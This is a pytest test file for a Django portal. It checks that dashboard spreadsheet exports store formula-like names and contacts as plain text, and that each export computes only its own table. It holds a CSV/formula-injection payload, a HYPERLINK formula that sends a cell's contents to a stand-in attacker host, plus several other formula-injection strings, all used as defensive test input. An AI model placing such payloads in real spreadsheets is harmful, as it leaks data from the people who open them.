"""No dashboard export carries a formula, whatever the names and contacts typed into the portal begin with."""

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from monitoring.dashboards import dashboard_data, table_data
from monitoring.exports import TABLES, write_table
from monitoring.figures import FigureFilters
from monitoring.models import Indicator
from pilot_portal.tests.workbooks import formulas_in, text_cells
from pilot_portal.xlsx_cells import as_text
from pilots.models import Organisation, Region, User

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"click me")'
# As an administrator could type them in the admin, where the import's formula check does not run.
REGION_NAME, ORGANISATION_NAME, DIRECTOR, PHONE, EMAIL, INDICATOR_NAME = (
    LINK,
    "+1+1",
    "-2+3",
    "\t=1",
    "@SUM(A1)",
    "\r=1",
)
CONTACTS = {ORGANISATION_NAME, DIRECTOR, PHONE, EMAIL}
# Which of those texts each table shows; the skills by settlement, ownership and language show none.
SHOWN = {
    "completeness": {REGION_NAME},
    "totals": {INDICATOR_NAME},
    "stages": {REGION_NAME},
    "skills-region": {REGION_NAME},
    "skills-settlement": set(),
    "skills-ownership": set(),
    "skills-language": set(),
    "review-speed": {REGION_NAME},
    "organisations": {ORGANISATION_NAME},
    "not-handed-in": CONTACTS,
}


@pytest.fixture
def demo(demo):
    """The demo (conftest.py), with names that need escaping in a formula."""
    Region.objects.filter(code="KZ-71").update(name_kk=REGION_NAME, name_ru=REGION_NAME, name_en=REGION_NAME)
    Organisation.objects.filter(region__code="KZ-71").update(
        name_kk=ORGANISATION_NAME, name_ru=ORGANISATION_NAME, name_en=ORGANISATION_NAME,
        director=DIRECTOR, phone=PHONE, email=EMAIL,
    )  # fmt: skip
    Indicator.objects.filter(code="children_total").update(
        name_kk=INDICATOR_NAME, name_ru=INDICATOR_NAME, name_en=INDICATOR_NAME
    )


def test_text_that_begins_like_a_formula_reaches_every_dashboard_export_as_text(client, demo):
    assert set(SHOWN) == set(TABLES), "a new table must say here which typed texts it shows"
    client.force_login(User.objects.get(username="institute"))
    urls = [reverse("regional_export", args=["KZ-71", table]) for table in TABLES]
    urls += [reverse("national_export", args=[table]) for table, (_build, regional) in TABLES.items() if not regional]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        workbook = b"".join(response.streaming_content)
        assert formulas_in(workbook) == [], url
        texts = text_cells(workbook)
        table = url.rsplit("/", 1)[1].removesuffix(".xlsx")
        # The positive control: each text the table shows is there, as typed, in string cells only.
        assert {text: set(texts.get(as_text(text), [])) for text in SHOWN[table]} == {
            text: {"s"} for text in SHOWN[table]
        }, url


def test_each_export_of_the_demo_computes_its_table_alone_and_writes_the_dashboards_cells(demo):
    """An export runs only its own table's queries (monitoring.dashboards.TABLE_PARTS); its cells are those
    the whole dashboard's data gives."""
    institute = User.objects.get(username="institute")
    region = Region.objects.get(code="KZ-71")
    for scope in (None, region):
        filters = FigureFilters(region=scope.code if scope else "")
        with CaptureQueriesContext(connection) as whole:
            everything = dashboard_data(user=institute, filters=filters, region=scope)
        for table, (_build, regional) in TABLES.items():
            if regional and scope is None:
                continue
            with CaptureQueriesContext(connection) as one:
                data = table_data(table, user=institute, filters=filters, region=scope)
            assert len(one) < len(whole), table
            cells = _cells(table, data)
            assert len(cells) > 1, table  # the positive control: rows, not a header alone
            assert cells == _cells(table, everything), table


def _cells(table, data) -> list[tuple]:
    workbook = openpyxl.load_workbook(write_table(table, data, title="t"))
    return list(workbook.active.iter_rows(values_only=True))
